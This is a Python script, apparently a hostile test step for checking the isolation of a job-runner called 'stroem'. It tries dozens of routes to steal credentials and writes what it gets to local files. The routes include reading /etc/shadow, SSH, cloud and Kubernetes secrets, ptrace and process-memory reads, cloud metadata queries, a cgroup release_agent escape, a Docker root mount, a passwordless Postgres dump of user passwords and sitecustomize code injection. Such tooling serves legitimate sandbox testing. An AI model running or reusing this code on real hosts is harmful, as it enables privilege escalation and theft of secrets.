"""A hostile step: it tries every way that it knows to a credential of the worker and of the host.

Runs as a script of its own, without this project. What it gets goes into one file for each route, in
the folder that it is given; it judges nothing. `python hostile_routes.py --list` names the routes.
"""

from __future__ import annotations

import ctypes
import glob
import http.client
import json
import os
import signal
import socket
import struct
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

MOST = 2_000_000
WAIT_S = 1.0
LIBC = ctypes.CDLL(None, use_errno=True)
Route = Callable[[], bytes]


def read(*paths: str) -> bytes:
    found = []
    for pattern in paths:
        for path in sorted(glob.glob(pattern))[:400] if "*" in pattern else [pattern]:
            try:
                fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                found.append(os.read(fd, MOST))
                os.close(fd)
            except (OSError, ValueError):
                continue
    return b"\n".join(found)[:MOST]


def walk(root: str) -> bytes:
    """Names and contents of all files below."""
    found = []
    for folder, _, names in os.walk(root):
        found += [f"{folder}/{name}".encode() + b"\n" + read(f"{folder}/{name}") for name in names]
    return b"\n".join(found)[:MOST]


def run(*argv: str, given: str = "") -> bytes:
    try:
        done = subprocess.run(
            argv, input=given.encode(), capture_output=True, timeout=10, check=False
        )
    except (OSError, subprocess.TimeoutExpired):
        return b""
    return done.stdout[:MOST] + done.stderr[:MOST]


def processes() -> list[int]:
    return [
        int(name) for name in os.listdir("/proc") if name.isdigit() and name != str(os.getpid())
    ]


def of_each(*files: str) -> Route:
    return lambda: b"\n".join(
        read(*(f"/proc/{pid}/{file}" for file in files)) for pid in processes()
    )


def memory(pid: int) -> bytes:
    """Writable memory, by /proc/PID/mem and by process_vm_readv."""
    found = []
    for line in read(f"/proc/{pid}/maps").decode("utf-8", "replace").splitlines()[:200]:
        span, mode, *_ = line.split()
        begin, end = (int(part, 16) for part in span.split("-"))
        if mode.startswith("rw"):
            found.append(read_at(pid, begin, min(end - begin, 1 << 16)))
    return b"".join(found)[:MOST]


def read_at(pid: int, address: int, size: int) -> bytes:
    try:
        fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
        return os.pread(fd, size, address)
    except OSError:
        return vm_read(pid, address, size)


def vm_read(pid: int, address: int, size: int) -> bytes:
    data = ctypes.create_string_buffer(size)
    own = (ctypes.c_void_p * 2)(ctypes.addressof(data), size)
    theirs = (ctypes.c_void_p * 2)(address, size)
    count = LIBC.process_vm_readv(pid, own, 1, theirs, 1, 0)
    return data.raw[:count] if count > 0 else b""


def traced(request: int) -> Route:
    """PTRACE_ATTACH or PTRACE_SEIZE, then the memory."""

    def route() -> bytes:
        found = []
        for pid in processes():
            if LIBC.ptrace(request, pid, None, None) == 0:
                found.append(memory(pid))
                LIBC.ptrace(17, pid, None, None)
        return b"".join(found)

    return route


def stolen_descriptors() -> bytes:
    """pidfd_getfd of the first descriptors of every process."""
    found = []
    for pid in processes():
        fd = LIBC.syscall(434, pid, 0)
        for number in range(24) if fd >= 0 else ():
            taken = LIBC.syscall(438, fd, number, 0)
            if taken >= 0:
                found.append(read(f"/proc/self/fd/{taken}"))
    return b"".join(found)


def inherited() -> bytes:
    found = []
    for number in range(3, 256):
        try:
            found.append(os.pread(number, MOST, 0))
        except OSError:
            try:
                os.set_blocking(number, False)
                found.append(os.read(number, MOST))
            except OSError:
                continue
    return b"".join(found)


def entered(kind: str) -> Route:
    """The namespace of another process."""

    def route() -> bytes:
        found = []
        for pid in processes():
            try:
                fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            except OSError:
                continue
            if LIBC.setns(fd, 0) == 0:
                found.append(run("cat", f"/proc/{pid}/environ"))
        return b"".join(found)

    return route


def dumped(number: signal.Signals) -> Route:
    """A core dump of the others."""

    def route() -> bytes:
        for pid in processes():
            try:
                os.kill(pid, number)
            except OSError:
                continue
        return read("core*", "/tmp/core*", "/var/crash/*", "/var/lib/systemd/coredump/*")

    return route


def talk(family: int, address: object, *words: bytes) -> bytes:
    found = []
    for word in words or (b"\n",):
        with socket.socket(family, socket.SOCK_STREAM) as link:
            link.settimeout(WAIT_S)
            try:
                link.connect(address)  # type: ignore[arg-type]
                link.sendall(word)
                while part := link.recv(65_536):
                    found.append(part)
            except OSError:
                continue
    return b"".join(found)


HTTP = b"GET %s HTTP/1.0\r\nHost: localhost\r\n%s\r\n"


def get(host: str, port: int, path: str, *headers: str) -> Route:
    def route() -> bytes:
        try:
            link = http.client.HTTPConnection(host, port, timeout=WAIT_S)
            link.request("GET", path, headers=dict(line.split(": ", 1) for line in headers))
            return link.getresponse().read(MOST)
        except (OSError, http.client.HTTPException):
            return b""

    return route


def local_ports() -> list[int]:
    found = set()
    for line in read("/proc/net/tcp", "/proc/net/tcp6").decode().splitlines():
        parts = line.split()
        if len(parts) > 3 and parts[3] == "0A":
            found.add(int(parts[1].rpartition(":")[2], 16))
    return sorted(found)


def everything_that_listens(word: bytes) -> Route:
    return lambda: b"".join(
        talk(socket.AF_INET, ("127.0.0.1", port), word) for port in local_ports()
    )


def unix_sockets(word: bytes) -> Route:
    def route() -> bytes:
        lines = read("/proc/net/unix").decode("utf-8", "replace").splitlines()[1:]
        names = {line.split(None, 7)[7] for line in lines if len(line.split(None, 7)) > 7}
        names |= {f"{folder}/{name}" for folder in SOCKETS for name in listed(folder)}
        addresses = ["\0" + name[1:] if name.startswith("@") else name for name in sorted(names)]
        return b"".join(talk(socket.AF_UNIX, address, word) for address in addresses)

    return route


def listed(folder: str) -> list[str]:
    try:
        return os.listdir(folder)
    except OSError:
        return []


def postgres(user: str) -> Route:
    """The start of a session without a password, then the table of users."""
    body = struct.pack("!i", 196_608) + f"user\0{user}\0database\0postgres\0\0".encode()
    word = struct.pack("!i", len(body) + 4) + body
    query = b"SELECT string_agg(email||password, ',') FROM accounts_user\0"
    word += b"Q" + struct.pack("!i", len(query) + 4) + query
    return lambda: (
        unix_sockets(word)()
        + b"".join(talk(socket.AF_INET, ("127.0.0.1", p), word) for p in (5432, 5433))
    )


SOCKETS = ("/run", "/var/run/postgresql", "/run/docker", "/run/stroem", "/run/user/0")
DOCKER = HTTP % (b"/containers/json?all=1", b"")
PER_PROCESS = (
    "environ", "cmdline", "maps", "smaps", "auxv", "stack", "syscall", "io", "wchan", "limits",
    "mountinfo", "numa_maps", "pagemap", "personality", "timers", "sched", "status", "stat",
    "fdinfo/*", "fd/*", "task/*/environ", "task/*/cmdline", "task/*/maps", "map_files/*",
    "attr/current", "cwd/*", "cwd/.env", "root/etc/shadow", "root/run/secrets/*", "root/proc/1/environ",
    "task/*/fd/*", "task/*/children", "oom_score_adj", "clear_refs", "coredump_filter", "patch_state",
)  # fmt: skip
FILES = (
    "/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/sudoers.d/*", "/etc/ssl/private/*",
    "/etc/munge/munge.key", "/etc/krb5.keytab", "/etc/slurm/*", "/etc/stroem/*", "/etc/stroem/*/*",
    "/run/secrets/*", "/run/secrets/*/*", "/var/run/secrets/kubernetes.io/serviceaccount/*",
    "/run/credentials/*", "/run/credentials/*/*", "/var/lib/stroem/*", "/var/lib/stroem/*/*",
    "/proc/kcore", "/proc/kmsg", "/proc/kallsyms", "/proc/keys", "/proc/key-users", "/dev/mem",
    "/dev/kmem", "/dev/kmsg", "/dev/port", "/dev/sd*", "/dev/vd*", "/dev/nvme*", "/dev/dm-*",
    "/dev/shm/*", "/dev/mqueue/*", "/sys/kernel/debug/*", "/sys/kernel/tracing/*",
    "/sys/firmware/*/*", "/var/log/*", "/var/log/*/*", "/var/spool/cron/*", "/var/spool/cron/*/*",
    "/var/backups/*", "/etc/postgresql/*/*/*", "/var/lib/postgresql/*/*/*", "/etc/redis/*",
    "/var/lib/redis/*", "/etc/rabbitmq/*", "/var/lib/rabbitmq/.erlang.cookie", "/etc/docker/*",
    "/etc/kubernetes/*", "/etc/rancher/*/*", "/var/lib/kubelet/*", "/etc/environment",
    "/etc/default/*", "/etc/systemd/system/*", "/lib/systemd/system/stroem*", "/etc/profile.d/*",
    "/tmp/core*", "/var/tmp/*", "core*", "../*", "../*/*", "../../*",
)  # fmt: skip
AT_HOME = (
    ".pgpass", ".netrc", ".git-credentials", ".npmrc", ".pypirc", ".vault-token", ".bash_history",
    ".aws/credentials", ".aws/config", ".kube/config", ".docker/config.json", ".ssh/id_rsa",
    ".ssh/id_ed25519", ".config/gcloud/*", ".azure/*", ".config/sops/age/keys.txt", ".gnupg/*",
    ".config/helm/*", ".config/rclone/*", ".env", ".my.cnf", ".erlang.cookie", ".local/share/*",
)  # fmt: skip
METADATA = (
    ("169.254.169.254", "/latest/meta-data/iam/security-credentials/"),
    ("169.254.169.254", "/latest/user-data"),
    ("169.254.169.254", "/computeMetadata/v1/instance/service-accounts/default/token"),
    ("169.254.169.254", "/metadata/identity/oauth2/token?api-version=2018-02-01"),
    ("169.254.169.254", "/opc/v2/instance/"),
    ("169.254.170.2", "/v2/credentials"),
    ("100.100.100.200", "/latest/meta-data/ram/security-credentials/"),
    ("fd00:ec2::254", "/latest/meta-data/"),
    ("metadata.google.internal", "/computeMetadata/v1/"),
)
SERVICES = (
    (2375, "/containers/json"), (2376, "/containers/json"), (8200, "/v1/secret/data/a"),
    (8500, "/v1/kv/?recurse"), (2379, "/v2/keys"), (10250, "/pods"), (10255, "/pods"),
    (6443, "/api/v1/secrets"), (6820, "/slurm/v0.0.38/jobs"), (15672, "/api/users"),
    (8080, "/api/jobs"), (8080, "/admin/"), (8080, "/worker/workspace/a.tar.gz"), (9100, "/metrics"),
)  # fmt: skip
PROGRAMS: dict[str, tuple[str, ...]] = {
    "sudo": ("sudo", "-n", "cat", "/proc/1/environ"),
    "su root": ("su", "root", "-c", "cat /proc/1/environ"),
    "pkexec": ("pkexec", "cat", "/etc/shadow"),
    "runuser": ("runuser", "-u", "root", "--", "cat", "/etc/shadow"),
    "setpriv": ("setpriv", "--reuid=0", "cat", "/etc/shadow"),
    "nsenter": ("nsenter", "-t", "1", "-m", "-p", "cat", "/proc/1/environ"),
    "unshare root": ("unshare", "-r", "-m", "cat", "/proc/1/environ", "/etc/shadow"),
    "unshare mount proc": (
        "unshare", "-r", "-p", "-m", "-f", "--mount-proc", "cat", "/proc/1/environ",
    ),
    "chroot": ("chroot", "/proc/1/root", "cat", "/etc/shadow"),
    "docker": ("docker", "run", "--rm", "-v", "/:/host", "busybox", "cat", "/host/etc/shadow"),
    "docker inspect": ("docker", "inspect", "-f", "{{.Config.Env}}", "stroem"),
    "podman": ("podman", "--remote", "ps"),
    "ctr": ("ctr", "containers", "list"),
    "kubectl": ("kubectl", "get", "secrets", "-A", "-o", "yaml"),
    "crictl": ("crictl", "inspect"),
    "systemctl": ("systemctl", "show", "stroem-worker", "-p", "Environment"),
    "journalctl": ("journalctl", "-n", "2000", "--no-pager"),
    "dmesg": ("dmesg",),
    "keyctl": ("keyctl", "show", "@s"),
    "scontrol": ("scontrol", "show", "config"),
    "scontrol job": ("scontrol", "show", "job", "-dd"),
    "sacct": ("sacct", "-P", "--format=JobName,SubmitLine,Comment,AdminComment"),
    "squeue": ("squeue", "-o", "%all"),
    "sbatch": ("sbatch", "--uid=0", "--wrap=cat /etc/shadow"),
    "munge": ("munge", "-n"),
    "psql": ("psql", "-At", "-c", "select * from accounts_user", "postgres", "postgres"),
    "redis-cli": ("redis-cli", "config", "get", "requirepass"),
    "rabbitmqctl": ("rabbitmqctl", "list_users"),
    "ps": ("ps", "auxewww"),
    "pgrep": ("pgrep", "-a", "."),
    "lsof": ("lsof", "-n"),
    "ss": ("ss", "-xlp"),
    "gdb": ("gdb", "-p", "1", "-batch", "-ex", "info proc all"),
    "gcore": ("gcore", "-o", "core", "1"),
    "strace": ("strace", "-p", "1"),
    "perf": ("perf", "record", "-a", "-g", "sleep", "1"),
    "crontab": ("crontab", "-l", "-u", "root"),
    "at": ("at", "-c", "1"),
    "getfacl": ("getcap", "-r", "/usr/bin"),
    "fuser": ("fuser", "-v", "/proc/1/environ"),
}  # fmt: skip


def hard_link() -> bytes:
    for path in given()["files"]:
        try:
            os.link(path, "linked")
            return read("linked")
        except OSError:
            continue
    return b""


def core_pattern() -> bytes:
    """What crashes writes a core where we can read it."""
    try:
        Path("/proc/sys/kernel/core_pattern").write_text("/tmp/core.%p")
    except OSError:
        return b""
    return dumped(signal.SIGQUIT)()


def cgroup_processes() -> bytes:
    """Leave the cgroup, move the worker, take a release agent."""
    found = []
    for path in glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)[:500]:
        try:
            Path(path).write_text(str(os.getpid()))
            found.append(read(str(Path(path).parent / "*")))
        except OSError:
            continue
    for path in glob.glob("/sys/fs/cgroup/*/release_agent"):
        try:
            Path(path).write_text("/bin/sh -c 'cat /proc/1/environ > /tmp/agent'")
        except OSError:
            continue
    return b"".join(found) + read("/tmp/agent")


def bytes_of_program() -> bytes:
    """The program of the worker, started with its module path set to ours."""
    Path("sitecustomize.py").write_text("import os; print(os.environ)")
    found = [
        run("env", "PYTHONPATH=.", *line) for line in commands() if "manage.py" in " ".join(line)
    ]
    return b"".join(found)


def commands() -> Iterator[list[str]]:
    for pid in processes():
        words = read(f"/proc/{pid}/cmdline").decode("utf-8", "replace").split("\0")
        if len(words) > 2:
            yield words[:-1]


def files_of_command_lines() -> bytes:
    return b"".join(read(*(word for word in line if word.startswith("/"))) for line in commands())


def given() -> dict[str, list[str]]:
    """The places that this host's operator uses: a step may know them all."""
    found: dict[str, list[str]] = json.loads(Path(__file__).with_name("places.json").read_text())
    return found


def own_environment() -> bytes:
    return repr(dict(os.environ)).encode() + read("/proc/self/environ")


def own_files() -> bytes:
    return read(os.environ["STROEM_INPUTS_FILE"], "/proc/self/fd/*", "/proc/self/maps")


def routes() -> dict[str, Route]:
    found: dict[str, Route] = {
        "own environment": own_environment,
        "own files": own_files,
        "inherited descriptors": inherited,
        "descriptors by pidfd_getfd": stolen_descriptors,
        "ptrace attach": traced(16),
        "ptrace seize": traced(0x4206),
        "memory": lambda: b"".join(memory(pid) for pid in processes()),
        "hard link": hard_link,
        "core pattern": core_pattern,
        "cgroup": cgroup_processes,
        "files of command lines": files_of_command_lines,
        "modules of the worker": bytes_of_program,
        "places": lambda: b"".join(map(walk, given()["folders"])),
        "named files": lambda: read(*given()["files"]),
        "parents of places": lambda: b"".join(
            read(f"{Path(folder).parent}/*") for folder in given()["folders"]
        ),
    }
    for name in PER_PROCESS:
        found[f"/proc/*/{name}"] = of_each(name)
    for kind in ("user", "mnt", "pid", "net"):
        found[f"namespace {kind}"] = entered(kind)
    for number in (signal.SIGQUIT, signal.SIGABRT, signal.SIGSEGV):
        found[f"core by {number.name}"] = dumped(number)
    for path in FILES:
        found[f"file {path}"] = lambda path=path: read(path)  # type: ignore[misc]
    for path in AT_HOME:
        found[f"home {path}"] = lambda path=path: read(
            *(f"{home}/{path}" for home in given()["homes"])
        )  # type: ignore[misc]
    for number, (host, path) in enumerate(METADATA):
        found[f"metadata {number} {host}"] = get(
            host, 80, path, "Metadata-Flavor: Google", "Metadata: true", "Authorization: Bearer x"
        )
    for port, path in SERVICES:
        found[f"port {port} {path}"] = get("127.0.0.1", port, path)
    for user in ("postgres", "stroem", "root", "nobody"):
        found[f"database as {user}"] = postgres(user)
    for word in (
        b"\n",
        b"INFO\r\nKEYS *\r\n",
        b"*1\r\n$4\r\nINFO\r\n",
        DOCKER,
        b"AMQP\0\0\x09\x01",
    ):
        found[f"sockets {word[:8]!r}"] = unix_sockets(word)
        found[f"ports {word[:8]!r}"] = everything_that_listens(word)
    for name, argv in PROGRAMS.items():
        found[f"program {name}"] = lambda argv=argv: run(*argv)  # type: ignore[misc]
    return found


def main(folder: Path, only: list[str]) -> None:
    tried = 0
    for name, route in routes().items():
        if only and name not in only:
            continue
        try:
            loot = route()
        except Exception as error:  # the next route may work
            loot = repr(error).encode()
        (folder / f"{tried:03d}").write_bytes(name.encode() + b"\n" + loot)
        tried += 1
    print(f'OUTPUT: {{"tried": {tried}}}')


if __name__ == "__main__":
    if sys.argv[1] == "--list":
        print("\n".join(routes()))
    else:
        main(Path(sys.argv[1]), sys.argv[2:])
